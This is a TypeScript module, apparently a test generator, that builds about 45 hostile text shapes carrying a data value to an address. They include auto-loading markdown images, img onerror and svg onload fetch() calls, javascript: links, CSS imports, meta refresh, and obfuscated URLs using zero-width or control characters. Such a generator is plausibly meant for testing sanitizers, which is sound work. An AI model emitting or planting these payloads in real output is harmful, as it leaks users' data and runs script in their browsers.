import { around } from "./seeded.ts";

/** Ways to write an address so that it takes the loot along, or is loaded without a click. */
const SHAPES: readonly ((address: string, loot: string) => string)[] = [
  (address, loot) => `![gráfico](${address}?d=${loot})`,
  (address, loot) => `![](<${address}?d=${loot} x>)`,
  (address, loot) => `[clique aqui](${address}?d=${loot})`,
  (address, loot) => `<img src="${address}?d=${loot}" onerror="alert(1)">`,
  (address, loot) => `<${address}?d=${loot}>`,
  (address, loot) => `${address}?d=${loot}`,
  (address, loot) => `![x][r]\n\n[r]: ${address}?d=${loot}`,
  (address, loot) => `<a href='${address}?d=${loot}' onclick='fetch(this.href)'>fonte</a>`,
  (address, loot) => `<svg onload=fetch('${address}?d=${loot}')>`,
  (address, loot) => `[x](javascript:fetch('${address}?d=${loot}'))`,
  (address, loot) => `![x](${address.replace(/^https?:/, "")}?d=${loot})`,
  (address, loot) => `<style>@import url(${address}?d=${loot});</style>`,
  (address) => `![selo](${address})`,
  (address, loot) => `${address}/${loot}`,
  (address, loot) => `${address}#${loot}`,
  (address, loot) => `[fonte][1]\n\n[1]: ${address}?d=${loot}`,
  (address, loot) => `ht\u200Btp://${hostOf(address)}/?d=${loot}`,
  (address, loot) => `![x](http&#58;//${hostOf(address)}/?d=${loot})`,
  (address, loot) => `http://${loot}.${hostOf(address)}/`,
  (address, loot) => `https://${loot}@${hostOf(address)}/`,
  (address, loot) => `${address})${loot}`,
  (address, loot) => `${address}|${loot}`,
  (address, loot) => `![a]\n(${address}?d=${loot})`,
  (address, loot) => `<${address}\n?d=${loot}>`,
  (address, loot) => `[a\n](${address}?d=${loot})`,
  (address, loot) => `${loot}@${hostOf(address)}`,
  (address, loot) => `www.${hostOf(address)}/${loot}`,
  (address, loot) => `${hostOf(address)}/${loot}`,
  (address, loot) => `<video src=${address}?d=${loot} autoplay><iframe srcdoc='<img src=${address}>'>`,
  (address, loot) => `[![x](${address}?d=${loot})](${address}?d=${loot})`,
  (address, loot) => `\`\`\`html\n<img src="${address}?d=${loot}">\n\`\`\``,
  (address, loot) => `| a |\n|---|\n| ![x](${address}?d=${loot}) |`,
  (address, loot) => `![x](${address.toUpperCase()}?d=${loot})`,
  (address, loot) => `\\![x]\\(${address}?d=${loot}) ![x] (${address}?d=${loot})`,
  (address, loot) =>
    `<link rel=prefetch href=${address}?d=${loot}><meta http-equiv=refresh content='0;url=${address}'>`,
  (address, loot) => `[^1]: ![x](${address}?d=${loot})`,
  (address, loot) => `ftp://${hostOf(address)}/${loot} data:text/html,${loot}`,
  (address, loot) => `[a](\u0001${address}?d=${loot})`,
  (address, loot) => `[a]( ${address}?d=${loot} "t")`,
  (address, loot) => `${address}\u2028?d=${loot}`,
  (address, loot) => `[a](javascript:\u00A0fetch('${address}?d=${loot}'))`,
  (address, loot) => `${loot}@_${hostOf(address)}`,
  (_, loot) => `[a](\n/sair?d=${loot})`,
  (_, loot) => `[r]\n\n1. [r]: /sair?d=${loot}`,
];

export function hostileWords(address: string, loot: string, turn: number): string {
  if (!address.startsWith("http") && address.includes(":")) return `[abrir](${address}`;
  return around(SHAPES, turn)(address, loot);
}

function hostOf(address: string): string {
  return (
    address
      .replace(/^https?:\/\//, "")
      .replace(/^.*@/, "")
      .split("/", 1)[0] ?? ""
  );
}
